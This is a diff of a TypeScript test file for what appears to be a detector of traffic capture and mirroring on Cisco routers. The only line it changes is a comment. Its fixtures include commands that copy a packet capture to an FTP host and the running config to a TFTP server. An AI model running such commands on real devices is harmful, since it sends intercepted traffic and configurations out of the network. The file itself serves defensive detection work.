@@ -94,7 +94,7 @@ const CASES: Record<string, [CommandEvent, CommandEvent, CommandEvent[]?]> = {
   capture_removed: [ev('no monitor capture TEST'), ev('no ip flow monitor FM input', { context: ['interface GigabitEthernet1'] })],
   mirror_recon: [ev('show monitor capture TEST parameter'), ev('show monitor event-trace all-traces')],
   pcap_copied_off_device: [ev('copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap vrf management'), ev('copy running-config tftp://10.1.1.1/r1.cfg')],
-  // Routers and switches beyond IOS: each pair is one of rules-routers.test.ts's tables (sources named there)
+  // Routers and switches beyond IOS: commands from the fixtures test/routers.test.ts replays (sources named there)
   iosxr_monitor_session_created: [ev('monitor-session 1 ethernet', XR), ev('monitor-session 1 ethernet', { ...XR, context: ['interface TenGigE0/0/0/0'] })],
   iosxr_monitor_session_destination: [
     ev('destination interface tunnel-ip1', { ...XR, context: ['monitor-session 1 ethernet'] }),
